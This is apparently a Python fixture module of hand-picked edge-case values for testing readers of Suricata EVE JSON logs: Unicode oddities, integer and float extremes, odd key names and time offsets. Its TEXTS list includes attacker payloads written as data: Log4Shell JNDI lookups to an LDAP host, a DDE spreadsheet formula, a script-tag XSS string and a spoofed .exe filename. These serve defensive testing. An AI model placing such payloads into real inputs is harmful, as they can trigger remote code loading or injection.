"""Nasty values, picked by hand: what real EVE holds and what breaks readers of it.

The strategies mix these into what they make, so that the known edges always occur.
"""

from __future__ import annotations

__all__ = ["INTEGERS", "KEYS", "NUMBER_SPELLINGS", "OFFSETS", "TEXTS", "TIME_LOOKALIKES"]

TIME_LOOKALIKES: tuple[str, ...] = (
    "2021-12-10",
    "2021-12-10T00:00:00",
    "2021-12-10 00:00:00",
    "2021-12-10T06:12:44Z",
    "2021-12-10T06:12:44.123456+0000",
    "12/10/2021",
    "10:11:12",
    "1639116764",
    "0000-00-00T00:00:00",
    "2021-02-30T00:00:00.000000+0000",
)
"""Text that a reader may take for a time, where the field is none; the last two are none at all."""

TEXTS: tuple[str, ...] = (
    "",
    " ",
    "0",
    "00123",
    "-1",
    "1e5",
    "0x1f",
    "NaN",
    "null",
    "true",
    "None",
    "9007199254740993",
    *TIME_LOOKALIKES,
    # Line ends to `str.splitlines`, though not to JSON.
    "a\u2028b",
    "a\u2029b\u0085c\u000bd\u000ce",
    "two\nlines\r\n",
    # Control characters, direction marks, other planes, characters that fold oddly.
    "nul\u0000inside",
    "\u001b[31mred\u001b[0m",
    "\u202egpj.exe\u202c",
    "\ufeffbom",
    "\u017ftra\u00dfe \u0130\u0131 \u212a",
    "e\u0301",
    "日本語",
    "😀",
    "\uffff",
    "\ufffd",
    # What Suricata writes for bytes that are not UTF-8.
    "\\xe9\\xff",
    "\\",
    '"',
    "\\u0041",
    "\\ud800",
    # An attacker's text, and what several headers of one name become.
    "${jndi:ldap://203.0.113.77:1389/a}",
    "${jndi",
    "${${::-j}${lower:N}di:${env:X:-ldap}://h/a}",
    "%24%7Bjndi%3A",
    "=cmd|'/C calc'!A0",
    "<script>alert(1)</script>",
    "$x_1$ and $$",
    "example.org, other.example.org",
    "d2dldCBodHRwOi8v",
    # Text that looks like the structure around it.
    '"event_type":"alert"',
    '{"event_type":"dns","flow_id":1}',
    '"}{"',
    "[1, 2",
    "2001:0db8:c0de:0042:0000:0000:0000:0001",
    "x" * 300,
)
"""Text of every kind that EVE brings and that some reader changed."""

INTEGERS: tuple[int, ...] = (
    0,
    1,
    -1,
    255,
    256,
    65535,
    65536,
    -32768,
    2**31 - 1,
    2**31,
    2**32,
    2**51 - 1,
    2**53 - 1,
    2**53,
    2**53 + 1,
    -(2**53) - 1,
    1086223871563029,
    2**62 + 1,
    2**63 - 1,
    2**63,
    2**63 + 1,
    -(2**63),
    2**64 - 1,
    2**64,
    -(2**63) - 1,
    10**30 + 7,
)
"""Integers around every width, the last three beyond uint64 or int64."""

NUMBER_SPELLINGS: tuple[str, ...] = (
    "-0",
    "-0.0",
    "0.1",
    "0.30000000000000004",
    "1.0",
    "1E5",
    "1e-7",
    "7.93",
    "5e-324",
    "2.2250738585072011e-308",
    "1.7976931348623157e308",
    "9007199254740993.0",
    "123456789012345678.5",
    "0.1000000000000000055511151231257827",
    "1e400",
)
"""Numbers as JSON spells them; the last one is infinite to a double."""

KEYS: tuple[str, ...] = (
    "",
    ".",
    "..",
    "x",
    "x.y",
    "x.",
    ".x",
    "y",
    "name",
    "index",
    "custom field",
    "ключ",
    "k\u2028k",
    "nul\u0000",
    'q"q',
    "back\\slash",
    "__class__",
    "X-Forwarded",
    "event_type.x",
    "${jndi:x}",
    "k" * 200,
)
"""Names of fields that no schema has; some collide once objects are flattened."""

OFFSETS: tuple[str, ...] = (
    "+0000",
    "Z",
    "",
    "+00:00",
    "-0400",
    "+02:00",
    "+0530",
    "-03:30",
    "+1400",
    "-12:00",
)
"""Spellings of a time's offset from UTC; none at all means UTC."""
